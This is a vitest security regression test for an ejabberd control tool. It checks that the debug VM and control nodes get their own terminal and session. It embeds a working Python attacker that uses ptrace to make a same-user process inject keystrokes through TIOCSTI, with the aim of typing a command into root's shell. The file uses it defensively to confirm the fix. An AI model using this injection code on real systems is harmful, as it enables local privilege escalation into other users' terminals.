/**
 * Root's terminal is never handed to a process of the node user (issue 12, finding 2).
 *
 * The kernel here allows TIOCSTI (dev.tty.legacy_tiocsti=1): a process whose controlling terminal
 * is root's can push keystrokes into it, and root's shell runs them once ejctl is gone. The test
 * plays the whole attack: root's interactive shell in a pseudo-terminal runs `ejctl debug`; code
 * in the ejabberd node (the node user's) has the debug VM, a hidden node connected to it, start a
 * program (rpc:call + os:cmd, as any code in the node can do to every hidden node it sees); that
 * program keeps every terminal it can reach, waits until the debug session is over, and then
 * types a command with TIOCSTI. It must not run in root's shell.
 */
import { execa } from 'execa';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { chownToNodeUser, EJCTL, isRoot, nodeUser, tempDir } from '../helpers/env.js';
import { useTestNode, waitFor } from '../helpers/node.js';
import { credentialsOf, descendants, fdLinks, ptyEjctl, ptyRun, remoteShells, sessionOf, type PtySession } from './helpers.js';

/**
 * The attacker, a process of the node user: it traces the VM (same uid, as every process of that
 * user may), stops all its threads so none reads what is typed, makes it call
 * ioctl(0, TIOCSTI, c) for each byte of the command, and kills it. Whatever terminal the VM had
 * as its stdin now holds the command as typed input for its next reader. x86_64 only.
 */
const ATTACKER = `import ctypes, json, os, signal, sys, time
vm, command, report = int(sys.argv[1]), bytes.fromhex(sys.argv[2]), sys.argv[3]
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
PEEK, POKE, GETREGS, SETREGS, STEP, DETACH, SEIZE, INTERRUPT = 2, 5, 12, 13, 9, 17, 0x4206, 0x4207
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi "
                                                   "orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]
def pt(req, tid, addr=0, data=0):
    ctypes.set_errno(0)
    r = libc.ptrace(req, tid, ctypes.c_void_p(addr), ctypes.c_void_p(data))
    if r == -1 and ctypes.get_errno():
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return r
result = {}
try:
    # Stop every thread, so none reads what is typed.
    tids = [int(t) for t in os.listdir("/proc/%d/task" % vm)]
    for t in tids:
        pt(SEIZE, t)
        pt(INTERRUPT, t)
        os.waitpid(t, 0x40000000)
    # A thread blocked in a system call: /proc/TID/syscall ends with the pc after its syscall instruction.
    tid, pc = None, None
    for t in tids:
        f = open("/proc/%d/task/%d/syscall" % (vm, t)).read().split()
        if f[0] not in ("running", "-1"):
            tid, pc = t, int(f[-1], 16)
            break
    saved = Regs()
    pt(GETREGS, tid, 0, ctypes.addressof(saved))
    addr = (saved.rsp - 4096) & ~7
    for b in command:
        pt(POKE, tid, addr, b)
        regs = Regs.from_buffer_copy(saved)
        regs.rax, regs.orig_rax, regs.rip = 16, 2**64 - 1, pc - 2   # ioctl(0, TIOCSTI, addr)
        regs.rdi, regs.rsi, regs.rdx = 0, 0x5412, addr
        pt(SETREGS, tid, 0, ctypes.addressof(regs))
        pt(STEP, tid)
        os.waitpid(tid, 0x40000000)
        pt(GETREGS, tid, 0, ctypes.addressof(regs))
        if regs.rax != 0:
            raise OSError(2**64 - regs.rax, "TIOCSTI: " + os.strerror(2**64 - regs.rax))
    result["TIOCSTI"] = "injected"
except OSError as e:
    result["TIOCSTI"] = e.strerror
# The VM dies before it can read what was typed: the caller's next reader gets it.
os.kill(vm, signal.SIGKILL)
result["uid"] = os.getuid()
with open(report + ".tmp", "w") as f:
    json.dump(result, f)
os.rename(report + ".tmp", report)
`;

const PROMPT = 'root-shell$ ';
/** bash switches bracketed paste on and off around each command line. */
// eslint-disable-next-line no-control-regex
const BRACKETED_PASTE = /\x1b\[\?2004[hl]/g;

const shells: PtySession[] = [];

/** Root's interactive shell in a pseudo-terminal of the test's own. */
async function rootShell(): Promise<PtySession> {
  const shell = ptyRun('/bin/bash', ['--norc', '--noprofile', '-i'], {
    PS1: PROMPT,
    HISTFILE: '/dev/null',
    EJABBERD_BYPASS_WARNINGS: 'true',
  });
  shells.push(shell);
  await shell.waitFor(PROMPT);
  return shell;
}

/** Runs `command` in the shell and returns what it printed, up to the next prompt. */
async function run(shell: PtySession, command: string): Promise<string> {
  const from = shell.text().length;
  shell.write(`${command}\r`);
  const end = await shell.waitFor(PROMPT, 30_000, from);
  return shell.text().slice(from, end).replace(BRACKETED_PASTE, '');
}

describe('debug: the shell VM runs on a terminal of its own', () => {
  const n = useTestNode();
  afterEach(() => {
    // A failed test may leave its shell and debug VM behind.
    for (const shell of shells.splice(0)) shell.kill();
    for (const pid of remoteShells(n.node)) process.kill(pid, 'SIGKILL');
  });

  async function startDebug(shell: PtySession, prefix = ''): Promise<number> {
    const from = shell.text().length;
    shell.write(`${prefix}${process.execPath} ${EJCTL} -c ${n.cfgPath} debug\r`);
    await shell.waitFor(`(${n.node})1> `, 30_000, from);
    const vms = remoteShells(n.node);
    expect(vms).toHaveLength(1);
    return vms[0]!;
  }

  async function leaveDebug(shell: PtySession): Promise<void> {
    const from = shell.text().length;
    shell.write('\x07'); // ^G: the user switch menu; q leaves the local shell
    await shell.waitFor('-->', 10_000, from);
    shell.write('q\r');
    await shell.waitFor(PROMPT, 30_000, from);
  }

  it('another session and controlling terminal than the caller, no descriptor of its terminal, INSTALLUSER without groups', async () => {
    const shell = await rootShell();
    const before = await run(shell, 'stty -g');
    // ejctl itself with a supplementary group (adm, 4: Debian's logs), which the VM must not keep.
    const vm = await startDebug(shell, isRoot ? 'setpriv --groups 4 -- ' : '');
    const caller = sessionOf(shell.pid);
    const ttyPath = fdLinks(shell.pid)['0'];
    expect(ttyPath).toMatch(/^\/dev\/pts\/\d+$/);
    const own = sessionOf(vm);
    expect(own.ttyNr).not.toBe(0);
    expect(own.ttyNr).not.toBe(caller.ttyNr);
    expect(own.session).not.toBe(caller.session);
    expect(Object.values(fdLinks(vm))).not.toContain(ttyPath);
    const user = nodeUser();
    if (user) {
      expect(credentialsOf(vm)).toEqual({
        uid: `${user.uid}\t${user.uid}\t${user.uid}\t${user.uid}`,
        gid: `${user.gid}\t${user.gid}\t${user.gid}\t${user.gid}`,
        groups: '',
      });
    }
    await leaveDebug(shell);
    // ejctl put the terminal back as it found it.
    expect(await run(shell, 'stty -g')).toBe(before);
    shell.write('exit\r');
    await shell.exited;
  });

  it('SIGTERM to ejctl during the session ends the VM and leaves the terminal as it was', async () => {
    const shell = await rootShell();
    const before = await run(shell, 'stty -g');
    const vm = await startDebug(shell);
    const ejctl = descendants(shell.pid).find((pid) => readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(EJCTL));
    expect(ejctl).toBeDefined();
    const from = shell.text().length;
    process.kill(ejctl!, 'SIGTERM');
    await shell.waitFor(PROMPT, 30_000, from);
    expect(existsSync(`/proc/${vm}`)).toBe(false);
    expect(await run(shell, 'stty -g')).toBe(before);
  });

  it("the VM's terminal follows the caller's window size (SIGWINCH)", async () => {
    const pty = ptyEjctl(['-c', n.cfgPath, 'debug'], { EJABBERD_BYPASS_WARNINGS: 'true' });
    await pty.waitFor(`(${n.node})1> `);
    pty.write('io:columns().\r');
    const at = await pty.waitFor('{ok,160}');
    pty.resize(100, 40);
    pty.write('io:columns().\r');
    await pty.waitFor('{ok,100}', 10_000, at);
    pty.write('\x07');
    await pty.waitFor('-->', 10_000, at);
    pty.write('q\r');
    expect((await pty.exited).exitCode).toBe(0);
  });

  it.runIf(process.arch === 'x64')(
    "a process of the node user that makes the VM type (TIOCSTI) does not reach the caller's shell",
    async () => {
      const dir = tempDir('ejctl-tiocsti-');
      writeFileSync(join(dir, 'attack.py'), ATTACKER, { mode: 0o644 });
      const drop = join(dir, 'drop');
      mkdirSync(drop, { mode: 0o700 });
      chownToNodeUser(drop);
      const report = join(drop, 'report.json');
      const marker = join(dir, 'marker');
      const shell = await rootShell();
      const vm = await startDebug(shell);
      const from = shell.text().length;
      const user = nodeUser();
      const typed = Buffer.from(`touch ${marker}\n`).toString('hex');
      await execa('python3', [join(dir, 'attack.py'), String(vm), typed, report], {
        ...(user ? { uid: user.uid, gid: user.gid } : {}),
        reject: false,
      });
      const results = JSON.parse(readFileSync(report, 'utf8')) as Record<string, unknown>;
      expect(results.uid).toBe(user?.uid ?? process.getuid!());
      // The attack itself worked: the VM's terminal got the keystrokes (its own, with the fix).
      expect(results.TIOCSTI).toBe('injected');
      await shell.waitFor(PROMPT, 30_000, from);
      // Whatever was typed has reached the shell by now: let it handle a command after it.
      await run(shell, 'echo checked');
      shell.write('exit\r');
      await shell.exited;
      expect(existsSync(marker), `the node user's process typed into root's shell:\n${shell.text().slice(from)}`).toBe(false);
    },
  );
});

describe('the erl transport: a control node never holds the caller terminal', () => {
  const n = useTestNode();
  const servers: Server[] = [];
  afterEach(() => {
    for (const shell of shells.splice(0)) shell.kill();
    for (const server of servers.splice(0)) server.close();
  });

  /**
   * A control node to look at while it waits: EPMD is a server that accepts and never answers,
   * so the node tries to connect for its net_setuptime (7 s).
   */
  async function waitingControlNode(shell: PtySession, redirect: string): Promise<number> {
    const epmd = createServer(() => undefined);
    servers.push(epmd);
    await new Promise<void>((resolve) => epmd.listen(0, '127.0.0.1', resolve));
    const port = (epmd.address() as AddressInfo).port;
    shell.write(`ERL_EPMD_PORT=${port} ${process.execPath} ${EJCTL} -c ${n.cfgPath} --transport erl status ${redirect}\r`);
    let found: number | undefined;
    await waitFor(
      () => {
        found = descendants(shell.pid).find((pid) => readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0').includes('-nocookie'));
        return found !== undefined;
      },
      20_000,
      'no control node started',
    );
    return found!;
  }

  it.each([
    ['stdout is a file: pipes, no terminal at all', '> /dev/null'],
    ['stdout is the terminal: a pty of its own', ''],
  ])('%s, in a session of its own', async (_title, redirect) => {
    const shell = await rootShell();
    const ttyPath = fdLinks(shell.pid)['0'];
    const control = await waitingControlNode(shell, redirect);
    const caller = sessionOf(shell.pid);
    const own = sessionOf(control);
    expect(own.session).not.toBe(caller.session);
    expect(own.ttyNr).not.toBe(caller.ttyNr);
    const links = Object.values(fdLinks(control));
    expect(links).not.toContain(ttyPath);
    if (redirect) {
      expect(own.ttyNr).toBe(0);
      expect(links.filter((l) => l.startsWith('/dev/pts/') || l.startsWith('/dev/tty'))).toEqual([]);
    } else expect(own.ttyNr).not.toBe(0);
  });

  async function screenOf(session: PtySession): Promise<string> {
    await session.exited;
    return session.text();
  }

  it('on a terminal, prints help exactly as ejabberdctl does on the same terminal', async () => {
    const viaEjctl = await screenOf(ptyRun(process.execPath, [EJCTL, '-c', n.cfgPath, '--transport', 'erl', 'help']));
    const viaEjabberdctl = await screenOf(
      ptyRun(
        'setpriv',
        [
          '--reuid',
          'ejabberd',
          '--regid',
          'ejabberd',
          '--clear-groups',
          '/usr/sbin/ejabberdctl',
          '--config-dir',
          n.dir,
          '--ctl-config',
          n.cfgPath,
          '--node',
          n.node,
          '--spool',
          n.spool,
          '--logs',
          n.logs,
          'help',
        ],
        { HOME: n.home },
      ),
    );
    const piped = await n.ctl(['--transport', 'erl', 'help']);
    // The request line, written to the control node's terminal, was not echoed.
    expect(viaEjctl).not.toContain(Buffer.from(n.cookie).toString('hex'));
    // ejabberd formats for a terminal (bold words), not as for a pipe.
    expect(viaEjctl).toContain('\x1b[1mhelp');
    expect(piped.stdout).not.toContain('\x1b[');
    expect(viaEjctl).toBe(viaEjabberdctl);
  });

  it('on a terminal, a request longer than a terminal line (4096 bytes) arrives whole', async () => {
    const args = ['--transport', 'erl', 'check_password', 'alice', 'localhost', 'p'.repeat(3000)];
    const piped = await n.ctl(args);
    const session = ptyRun(process.execPath, [EJCTL, '-c', n.cfgPath, ...args]);
    const { exitCode } = await session.exited;
    expect(exitCode).toBe(piped.exitCode);
    expect(session.text()).toBe(piped.stdout);
  });

  it('Ctrl-C on a terminal stops the control node and ejctl exits 130', async () => {
    const shell = await rootShell();
    const control = await waitingControlNode(shell, '');
    const from = shell.text().length;
    shell.write('\x03');
    await shell.waitFor(PROMPT, 20_000, from);
    expect(await run(shell, 'echo $?'), shell.text().slice(from - 300)).toContain('130');
    await waitFor(() => !existsSync(`/proc/${control}`), 10_000, 'the control node outlived ejctl');
  });
});
